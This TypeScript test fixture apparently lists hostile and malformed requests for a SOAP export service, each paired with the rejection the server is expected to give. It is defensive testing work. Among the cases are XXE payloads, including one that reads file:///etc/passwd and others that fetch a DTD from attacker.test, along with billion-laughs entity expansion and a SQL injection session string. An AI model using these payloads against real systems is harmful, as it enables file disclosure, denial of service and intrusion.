/** Requests no friend would send to /soap, or only a clumsy one, each with the answer it must get. */
import { NS, SOAP11, SOAP12, exportOf, logIn, payload, wrap } from "./soap-messages.ts";

/**
 * What an answer is, in short: "malformed_xml" and other names are the code of a problem with HTTP 400, "413" and "415" that
 * status, "11 Client" and "12 Sender" the fault of that version, "= 7007" the exception code of an operation's response.
 */
export interface HostileRequest {
  name: string;
  body: string | Uint8Array<ArrayBuffer>;
  answer: string;
  /** Content-Type; null: none. */
  type?: string | null;
  query?: string;
  headers?: Record<string, string>;
}

/** A session that never was: what reaches the export is refused by it. */
const GOOD = exportOf("nobody");
const OPEN = `<cim_FinancialExportReportV2 xmlns="${NS}">`;
const CLOSE = "</cim_FinancialExportReportV2>";
const SOAP_TYPE = "application/soap+xml";

const inside = (xml: string): string => GOOD.replace(OPEN, OPEN + xml);
const bytes = (...parts: (string | number[])[]): Uint8Array<ArrayBuffer> =>
  Uint8Array.from(parts.flatMap((part) => (typeof part === "string" ? Array.from(new TextEncoder().encode(part)) : part)));
const utf16 = (text: string, littleEndian: boolean): Uint8Array<ArrayBuffer> =>
  Uint8Array.from(
    Array.from(text, (char) => char.charCodeAt(0)).flatMap((code) => (littleEndian ? [code & 255, code >> 8] : [code >> 8, code & 255])),
  );
const nested = (depth: number): string => "<d>".repeat(depth) + "</d>".repeat(depth);

type Row = [name: string, body: string | Uint8Array<ArrayBuffer>];
const group = (answer: string, rows: Row[]): HostileRequest[] => rows.map(([name, body]) => ({ name, body, answer }));

const NOT_WELL_FORMED = group("malformed_xml", [
  ["nothing", ""],
  ["white space", " \n\t "],
  ["a byte order mark alone", "\uFEFF"],
  ["text", "hello"],
  ["JSON", '{"sessionId":"x"}'],
  ["a form", "sessionId=x&afterTimestamp=y"],
  ["a declaration alone", '<?xml version="1.0"?>'],
  ["a comment alone", "<!-- -->"],
  ["a mismatched end tag", GOOD.replace("</sessionId>", "</sessionID>")],
  ["overlapping elements", inside("<a><b></a></b>")],
  ["an end tag too many", `${GOOD}</a>`],
  ["an end tag at first", `</a>${GOOD}`],
  ["an end tag missing", GOOD.replace(CLOSE, "")],
  ["an end tag with an attribute", GOOD.replace(CLOSE, `${CLOSE.slice(0, -1)} a="">`)],
  ["an end tag with space before its name", inside("<a></ a>")],
  ["two roots", GOOD + GOOD],
  ["text after the root", `${GOOD}x`],
  ["text before the root", `x${GOOD}`],
  ["CDATA after the root", `${GOOD}<![CDATA[ ]]>`],
  ["a reference after the root", `${GOOD}&#32;`],
  ["a NUL after the root", `${GOOD}\0`],
  ["]]> in text", inside("<a>]]></a>")],
  ["an unclosed CDATA section", inside("<![CDATA[ x")],
  ["a CDATA section in lower case", inside("<![cdata[x]]>")],
  ["an unclosed comment", inside("<!-- x")],
  ["-- in a comment", inside("<!-- a -- b -->")],
  ["a comment ending in --->", inside("<!-- a --->")],
  ["a comment of <!-->", inside("<!-->")],
  ["an unclosed instruction", inside("<?x")],
  ["an instruction without a target", inside("<? x?>")],
  ["an instruction called XmL", inside("<?XmL x?>")],
  ["an instruction with a colon", inside("<?a:b x?>")],
  ["a declaration after a space", ` <?xml version="1.0"?>${GOOD}`],
  ["a declaration after a comment", `<!-- --><?xml version="1.0"?>${GOOD}`],
  ["a declaration inside", inside('<?xml version="1.0"?>')],
  ["two declarations", `<?xml version="1.0"?><?xml version="1.0"?>${GOOD}`],
  ["a declaration without a version", `<?xml encoding="UTF-8"?>${GOOD}`],
  ["a declaration of version 2.0", `<?xml version="2.0"?>${GOOD}`],
  ["a declaration in the wrong order", `<?xml encoding="UTF-8" version="1.0"?>${GOOD}`],
  ["a declaration with mixed quotes", `<?xml version="1.0'?>${GOOD}`],
  ["a declaration with something more", `<?xml version="1.0" a="b"?>${GOOD}`],
  ["a declaration with standalone=maybe", `<?xml version="1.0" standalone="maybe"?>${GOOD}`],
  ["a declaration in upper case", `<?XML version="1.0"?>${GOOD}`],
  ["a declaration without spaces", `<?xml version="1.0"encoding="UTF-8"?>${GOOD}`],
  ["an attribute without a value", inside("<a b/>")],
  ["an attribute without quotes", inside("<a b=c/>")],
  ["an unclosed attribute", inside('<a b="c/>')],
  ["an attribute with <", inside('<a b="<"/>')],
  ["an attribute with a bare &", inside('<a b="&"/>')],
  ["attributes without a space between", inside('<a b="" c=""d=""/>')],
  ["a duplicate attribute", inside('<a b="1" b="2"/>')],
  ["a duplicate attribute under two prefixes", inside('<a xmlns:x="u" xmlns:y="u" x:b="1" y:b="2"/>')],
  ["a duplicate default namespace", inside('<a xmlns="u" xmlns="v"/>')],
  ["a name that begins with a digit", inside("<1a/>")],
  ["a name that begins with a hyphen", inside("<-a/>")],
  ["a name with an illegal character", inside("<a×/>")],
  ["a space before a name", inside("< a/>")],
  ["an empty tag", inside("<>")],
  ["a slash before a space", inside("<a / >")],
  ["a tag that is not one", inside("<a<b/>")],
  ["a bare &", inside("<a>fish & chips</a>")],
  ["a reference without a semicolon", inside("<a>&amp</a>")],
  ["an entity of HTML", inside("<a>&nbsp;</a>")],
  ["an unknown entity", inside("<a>&x;</a>")],
  ["an entity in upper case", inside("<a>&LT;</a>")],
  ["an entity with a space", inside("<a>&lt ;</a>")],
  ["an empty reference", inside("<a>&;</a>")],
  ["an empty character reference", inside("<a>&#;</a>")],
  ["an empty hexadecimal reference", inside("<a>&#x;</a>")],
  ["a hexadecimal reference with X", inside("<a>&#X41;</a>")],
  ["a negative reference", inside("<a>&#-65;</a>")],
  ["a reference to NUL", inside("<a>&#0;</a>")],
  ["a reference to a control character", inside("<a>&#x1F;</a>")],
  ["a reference to a surrogate", inside("<a>&#xD83D;&#xDE00;</a>")],
  ["a reference to U+FFFE", inside("<a>&#xFFFE;</a>")],
  ["a reference beyond Unicode", inside("<a>&#x110000;</a>")],
  ["a reference of sixty thousand digits", inside(`<a>&#${"9".repeat(60_000)};</a>`)],
  ["a NUL", inside("<a>\0</a>")],
  ["a backspace", inside("<a>\b</a>")],
  ["an escape in an attribute", inside('<a b="\u001b"/>')],
  ["U+FFFF", inside("<a>\uffff</a>")],
  ["a control character in a comment", inside("<!-- \u0001 -->")],
  ["two byte order marks", `\uFEFF\uFEFF${GOOD}`],
]);

const NOT_OF_THE_PROFILE = group("malformed_xml", [
  ["a DOCTYPE", `<!DOCTYPE x>${GOOD}`],
  ["a DOCTYPE in lower case", `<!doctype x>${GOOD}`],
  ["a DOCTYPE with a subset", `<!DOCTYPE x [<!ELEMENT x ANY>]>${GOOD}`],
  ["an internal entity", `<!DOCTYPE x [<!ENTITY a "b">]>${inside("<a>&a;</a>")}`],
  ["an external entity", `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>${inside("<a>&a;</a>")}`],
  ["an external subset", `<!DOCTYPE x SYSTEM "http://attacker.test/x.dtd">${GOOD}`],
  ["a parameter entity", `<!DOCTYPE x [<!ENTITY % a SYSTEM "http://attacker.test/x">%a;]>${GOOD}`],
  ["a billion laughs", `<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>${inside("<a>&c;</a>")}`],
  ["a quadratic blow-up", `<!DOCTYPE x [<!ENTITY a "${"a".repeat(20_000)}">]>${inside(`<a>${"&a;".repeat(5000)}</a>`)}`],
  ["a DOCTYPE inside", inside("<!DOCTYPE x>")],
  ["a DOCTYPE after the root", `${GOOD}<!DOCTYPE x>`],
  ["an element declaration", `<!ELEMENT x ANY>${GOOD}`],
  ["33 levels", inside(nested(32))],
  ["20,000 levels", "<d>".repeat(20_000)],
  ["20,000 levels, closed", nested(9000)],
  ["ISO-8859-1 declared", `<?xml version="1.0" encoding="ISO-8859-1"?>${GOOD}`],
  ["UTF-16 declared", `<?xml version="1.0" encoding="UTF-16"?>${GOOD}`],
  ["UTF-7 declared", `<?xml version="1.0" encoding="UTF-7"?>${GOOD}`],
  ["an encoding with a space", `<?xml version="1.0" encoding=" UTF-8"?>${GOOD}`],
  ["an empty encoding", `<?xml version="1.0" encoding=""?>${GOOD}`],
  ["UTF-16, little end first, with its mark", bytes([0xff, 0xfe], [...utf16(GOOD, true)])],
  ["UTF-16, big end first, with its mark", bytes([0xfe, 0xff], [...utf16(GOOD, false)])],
  ["UTF-16 without a mark", utf16(GOOD, true)],
  ["UTF-32 with its mark", bytes([0xff, 0xfe, 0, 0, 0x3c, 0, 0, 0])],
  ["Latin-1 bytes", bytes(`<a xmlns="${NS}">`, [0xe9], "</a>")],
  ["an overlong <", bytes([0xc0, 0xbc], "a/>")],
  ["a surrogate in UTF-8", bytes("<a>", [0xed, 0xa0, 0x80], "</a>")],
  ["a code beyond Unicode in UTF-8", bytes("<a>", [0xf4, 0x90, 0x80, 0x80], "</a>")],
  ["a cut character", bytes("<a>", [0xe2, 0x82], "</a>")],
  ["a lone continuation byte", bytes(GOOD, [0x80])],
]);

const NOT_NAMESPACE_CORRECT = group("malformed_xml", [
  ["an undeclared prefix", inside("<x:a/>")],
  ["an undeclared prefix of the root", `<x:LogIn/>`],
  ["an undeclared prefix of an attribute", inside('<a x:b=""/>')],
  ["a prefix out of its scope", inside('<x:a xmlns:x="u"/><x:b/>')],
  ["a prefix undeclared again", inside('<a xmlns:x="u"><b xmlns:x=""/></a>')],
  ["a name with two colons", inside('<x:a:b xmlns:x="u"/>')],
  ["a name that begins with a colon", inside("<:a/>")],
  ["a name that ends with a colon", inside('<x: xmlns:x="u"/>')],
  ["a local name that begins with a digit", inside('<x:1 xmlns:x="u"/>')],
  ["an attribute with two colons", inside('<a xmlns:x="u" x:b:c=""/>')],
  ["xml bound to something else", inside('<a xmlns:xml="u"/>')],
  ["something else bound to xml's namespace", inside('<a xmlns:x="http://www.w3.org/XML/1998/namespace"/>')],
  ["the default bound to xml's namespace", inside('<a xmlns="http://www.w3.org/XML/1998/namespace"/>')],
  ["xmlns declared", inside('<a xmlns:xmlns="u"/>')],
  ["something bound to xmlns's namespace", inside('<a xmlns:x="http://www.w3.org/2000/xmlns/"/>')],
  ["an element with the prefix xmlns", inside("<xmlns:a/>")],
  ["an end tag with another prefix for the same namespace", inside('<x:a xmlns:x="u" xmlns:y="u"></y:a>')],
]);

const NO_OPERATION = group("unknown_operation", [
  ["no namespace", "<LogIn/>"],
  ["another namespace", '<LogIn xmlns="urn:other"/>'],
  ["a namespace in other case", `<LogIn xmlns="${NS.toUpperCase()}"/>`],
  ["a namespace with a slash more", `<LogIn xmlns="${NS}/"/>`],
  ["a namespace with a space more", `<LogIn xmlns="${NS} "/>`],
  ["a name in other case", payload("login", {})],
  ["a response", payload("LogInResponse", {})],
  ["a prototype's name", payload("constructor", {})],
  ["another prototype's name", payload("__proto__", {})],
  ["a look-alike name", payload("LоgIn", {})],
  ["an Envelope of our own namespace", payload("Envelope", {})],
  ["a Body alone", `<Body xmlns="${SOAP11}">${GOOD}</Body>`],
  ["an operation inside another element", `<a>${GOOD}</a>`],
  ["HTML", "<html><body/></html>"],
  ["XML-RPC", "<methodCall><methodName>LogIn</methodName></methodCall>"],
]);

const WRONG_VALUES = group("= 90400", [
  ["a log-in without anything", payload("LogIn", {})],
  ["a log-in with elements for values", logIn({ SiteID: "<a/>", OperatorCode: "x", Password: "x" })],
  ["a log-in with values of no namespace", logIn({}).replace("/>", "/>").replace("</LogIn>", '<SiteID xmlns="">x</SiteID></LogIn>')],
  ["a log-in with two passwords", logIn({ SiteID: "x", OperatorCode: "x", Password: "x</Password><Password>x" })],
  ["a log-out with elements for a value", payload("LogOut", { SessionID: "<a/>" })],
  ["a log-out with two sessions", payload("LogOut", { SessionID: "x</SessionID><SessionID>y" })],
]);

/** Names are what a reader works for: beyond 500 it stops. */
const TOO_MANY_NAMES = group("malformed_xml", [
  ["ten thousand children", inside("<a/>".repeat(10_000))],
  ["six thousand attributes", inside(`<a ${Array.from({ length: 6000 }, (_, index) => `a${index}=""`).join(" ")}/>`)],
  ["thousands of namespaces", inside(Array.from({ length: 2000 }, (_, index) => `<p:a xmlns:p="${index}"/>`).join(""))],
  ["sixteen thousand elements without an end", "<a>" + "<a/>".repeat(16_000)],
]);

const NO_SESSION = group("= 7007", [
  ["an unknown session", GOOD],
  ["an export without anything", payload("cim_FinancialExportReportV2", {})],
  ["SQL", exportOf("' OR 1=1 --")],
  ["a session of sixty thousand characters", exportOf("x".repeat(60_000))],
  ["a session of many bytes a character", exportOf("😀".repeat(200))],
  ["32 levels", inside(nested(31))],
  ["four hundred children", inside("<a/>".repeat(400))],
  ["four hundred attributes", inside(`<a ${Array.from({ length: 400 }, (_, index) => `a${index}=""`).join(" ")}/>`)],
  ["a name of sixty thousand characters", inside(`<${"a".repeat(60_000)}/>`)],
  ["a prefix of sixty thousand characters", inside(`<${"p".repeat(30_000)}:a xmlns:${"p".repeat(30_000)}="u"/>`)],
  ["two hundred namespaces", inside(Array.from({ length: 200 }, (_, index) => `<p:a xmlns:p="${index}"/>`).join(""))],
  ["sixty thousand spaces in a tag", inside(`<a${" ".repeat(60_000)}/>`)],
  ["thousands of references", inside(`<a>${"&lt;".repeat(15_000)}</a>`)],
  ["thousands of comments", inside("<!---->".repeat(8000))],
  ["an instruction with an open quote", inside("<?x ' ?>")],
  ["a comment with an open quote", inside('<!-- " -->')],
  ["names of a prototype", inside("<constructor/><__proto__ __proto__=''/><hasOwnProperty/>")],
  ["names of the parser", inside("<e a0=''/><text/>")],
  ["a name that JavaScript thinks holds a space", inside("<a\u1680b/>")],
  ["a log-out of an unknown session", payload("LogOut", { SessionID: "nobody" })],
  ["a log-out without a session", payload("LogOut", {})],
  ["a declaration of version 1.1", `<?xml version='1.1' encoding='utf-8' standalone='no' ?>${GOOD}`],
  ["a byte order mark", `\uFEFF${GOOD}`],
]);

const soap = (version: 11 | 12, xml: string): string => wrap(version === 11 ? "soap11" : "soap12", xml);
const envelope = (namespace: string, inner: string): string => `<s:Envelope xmlns:s="${namespace}">${inner}</s:Envelope>`;
const body = `<s:Body>${GOOD}</s:Body>`;
const must = (namespace: string, attributes: string): string =>
  envelope(namespace, `<s:Header><h:x xmlns:h="urn:h" ${attributes}/></s:Header>${body}`);

/** Every one of these for both versions. */
const ENVELOPES: [name: string, inner: (namespace: string) => string, answer11: string, answer12: string][] = [
  ["no Body", (ns) => envelope(ns, ""), "11 Client", "12 Sender"],
  ["a Header alone", (ns) => envelope(ns, "<s:Header/>"), "11 Client", "12 Sender"],
  ["an empty Body", (ns) => envelope(ns, "<s:Body/>"), "11 Client", "12 Sender"],
  ["two Bodies", (ns) => envelope(ns, body + body), "11 Client", "12 Sender"],
  ["two operations", (ns) => envelope(ns, `<s:Body>${GOOD}${GOOD}</s:Body>`), "11 Client", "12 Sender"],
  ["a Header after the Body", (ns) => envelope(ns, `${body}<s:Header/>`), "11 Client", "12 Sender"],
  ["two Headers", (ns) => envelope(ns, `<s:Header/><s:Header/>${body}`), "11 Client", "12 Sender"],
  ["something before the Body", (ns) => envelope(ns, `<x/>${body}`), "11 Client", "12 Sender"],
  ["something of no namespace after the Body", (ns) => envelope(ns, `${body}<x/>`), "11 Client", "12 Sender"],
  ["something of its own after the Body", (ns) => envelope(ns, `${body}<x xmlns="urn:x"/>`), "= 7007", "12 Sender"],
  ["text in the Envelope", (ns) => envelope(ns, `x${body}`), "11 Client", "12 Sender"],
  ["text in the Body", (ns) => envelope(ns, `<s:Body>x${GOOD}</s:Body>`), "11 Client", "12 Sender"],
  ["a Body of no namespace", (ns) => envelope(ns, `<Body>${GOOD}</Body>`), "11 Client", "12 Sender"],
  ["an unknown operation", (ns) => envelope(ns, '<s:Body><LogIn xmlns="urn:other"/></s:Body>'), "11 Client", "12 Sender"],
  ["a fault for a request", (ns) => envelope(ns, "<s:Body><s:Fault/></s:Body>"), "11 Client", "12 Sender"],
  ["an Envelope in the Body", (ns) => envelope(ns, `<s:Body>${envelope(ns, body)}</s:Body>`), "11 Client", "12 Sender"],
  ["XML that ends too soon", (ns) => envelope(ns, body).slice(0, -5), "11 Client", "12 Sender"],
  ["a DOCTYPE", (ns) => `<!DOCTYPE x>${envelope(ns, body)}`, "11 Client", "12 Sender"],
  ["a header to be understood", (ns) => must(ns, 's:mustUnderstand="1"'), "11 MustUnderstand", "12 MustUnderstand"],
  ["a header to be understood, in words", (ns) => must(ns, 's:mustUnderstand=" true "'), "11 MustUnderstand", "12 MustUnderstand"],
  ["a header that need not be", (ns) => must(ns, 's:mustUnderstand="0"'), "= 7007", "= 7007"],
  ["a header that need not be, in words", (ns) => must(ns, 's:mustUnderstand="false"'), "= 7007", "= 7007"],
  ["a header that may be understood or not", (ns) => must(ns, 's:mustUnderstand="maybe"'), "11 Client", "12 Sender"],
  ["a header whose attribute is not SOAP's", (ns) => must(ns, 'mustUnderstand="1"'), "= 7007", "= 7007"],
  ["a header for another actor", (ns) => must(ns, 's:mustUnderstand="1" s:actor="urn:x" s:role="urn:x"'), "= 7007", "= 7007"],
  ["a header for the empty actor", (ns) => must(ns, 's:mustUnderstand="1" s:actor="" s:role=""'), "11 MustUnderstand", "12 MustUnderstand"],
  [
    "a header to be understood beside an unknown operation",
    (ns) => must(ns, 's:mustUnderstand="1"').replace(GOOD, "<unknown/>"),
    "11 MustUnderstand",
    "12 MustUnderstand",
  ],
  [
    "a header for whoever comes next",
    (ns) => must(ns, `s:mustUnderstand="1" s:actor="http://schemas.xmlsoap.org/soap/actor/next" s:role="${SOAP12}/role/next"`),
    "11 MustUnderstand",
    "12 MustUnderstand",
  ],
  [
    "a header for the last receiver",
    (ns) => must(ns, `s:mustUnderstand="1" s:role="${SOAP12}/role/ultimateReceiver"`),
    "11 MustUnderstand",
    "12 MustUnderstand",
  ],
  [
    "a header for nobody",
    (ns) => must(ns, `s:mustUnderstand="1" s:actor="${SOAP12}/role/none" s:role="${SOAP12}/role/none"`),
    "= 7007",
    "= 7007",
  ],
];

const IN_ENVELOPES: HostileRequest[] = ENVELOPES.flatMap(([name, inner, answer11, answer12]) => [
  { name: `SOAP 1.1: ${name}`, body: inner(SOAP11), answer: answer11 },
  { name: `SOAP 1.2: ${name}`, body: inner(SOAP12), type: SOAP_TYPE, answer: answer12 },
]);

const OTHER_FORMS: HostileRequest[] = [
  { name: "an Envelope of another namespace", body: envelope("urn:x", body), answer: "11 VersionMismatch" },
  { name: "an Envelope of no namespace", body: "<Envelope/>", answer: "11 VersionMismatch" },
  { name: "an Envelope of another namespace, as SOAP 1.2", body: envelope("urn:x", body), type: SOAP_TYPE, answer: "12 VersionMismatch" },
  { name: "an Envelope of a draft", body: envelope("http://www.w3.org/2001/12/soap-envelope", body), answer: "11 VersionMismatch" },
  { name: "a SOAP 1.2 Body in a SOAP 1.1 Envelope", body: envelope(SOAP11, `<Body xmlns="${SOAP12}"/>`), answer: "11 Client" },
  { name: "SOAP 1.1 as SOAP 1.2", body: soap(11, GOOD), type: SOAP_TYPE, answer: "= 7007" },
  { name: "SOAP 1.2 as text/xml", body: soap(12, GOOD), answer: "= 7007" },
  { name: "a bare operation as SOAP 1.2", body: GOOD, type: SOAP_TYPE, answer: "= 7007" },
  { name: "nothing as SOAP 1.2", body: "", type: SOAP_TYPE, answer: "12 Sender" },
  { name: "not XML as SOAP 1.2", body: "hello", type: `${SOAP_TYPE}; charset=utf-8`, answer: "12 Sender" },
  { name: "an unknown bare operation as SOAP 1.2", body: "<x/>", type: SOAP_TYPE, answer: "12 Sender" },
  { name: "another operation in ?op=", body: GOOD, query: "?op=LogIn", answer: "contradicting_action" },
  { name: "an unknown operation in ?op=", body: GOOD, query: "?op=%00", answer: "contradicting_action" },
  {
    name: "an action of another namespace",
    body: GOOD,
    query: "?soapAction=urn:x/cim_FinancialExportReportV2",
    answer: "contradicting_action",
  },
  { name: "a broken query", body: GOOD, query: "?%ff=%&&&=&x", answer: "= 7007" },
  { name: "another SOAPAction", body: soap(11, GOOD), headers: { SOAPAction: '"urn:x"' }, answer: "11 Client" },
  { name: "another action", body: soap(12, GOOD), type: `${SOAP_TYPE};action="urn:x"`, answer: "12 Sender" },
  { name: "an empty SOAPAction", body: soap(11, GOOD), headers: { SOAPAction: '""' }, answer: "= 7007" },
];

const OTHER_TYPES: HostileRequest[] = [
  ...[
    "application/json",
    "text/plain",
    "text/html",
    "text/xmlx",
    'multipart/related; type="text/xml"',
    "image/svg+xml",
    "xml",
    ";",
    "*/*",
  ].map((type) => ({ name: `the type ${type}`, body: GOOD, type, answer: "415" })),
  ...["iso-8859-1", "utf-16", '"utf-7"', "", "utf-8x"].map((charset) => ({
    name: `the charset ${charset}`,
    body: GOOD,
    type: `text/xml; charset=${charset}`,
    answer: "415",
  })),
  ...[
    null,
    "text/xml",
    "TEXT/XML",
    "application/xml",
    "text/xml; charset=UTF-8",
    'text/xml;charset="utf-8"',
    "text/xml; x=y; Charset=Utf-8",
    "text/xml;",
  ].map((type) => ({ name: `the type ${type}`, body: bytes(GOOD), type, answer: "= 7007" })),
  { name: "one byte too many", body: GOOD.padEnd(65_537, " "), answer: "413" },
  { name: "as many bytes as may be", body: GOOD.padEnd(65_536, " "), answer: "= 7007" },
  { name: "a megabyte", body: "<".repeat(1_000_000), answer: "413" },
];

/** All of them. */
export const HOSTILE_REQUESTS: readonly HostileRequest[] = [
  ...NOT_WELL_FORMED,
  ...NOT_OF_THE_PROFILE,
  ...NOT_NAMESPACE_CORRECT,
  ...NO_OPERATION,
  ...WRONG_VALUES,
  ...TOO_MANY_NAMES,
  ...NO_SESSION,
  ...IN_ENVELOPES,
  ...OTHER_FORMS,
  ...OTHER_TYPES,
];

/** Good requests, to be cut short anywhere. */
export const GOOD_REQUESTS = {
  bare: `<?xml version="1.0" encoding="utf-8"?>${GOOD}`,
  soap11: `<?xml version="1.0"?>${soap(11, GOOD)}`,
  soap12: soap(12, GOOD),
} as const;
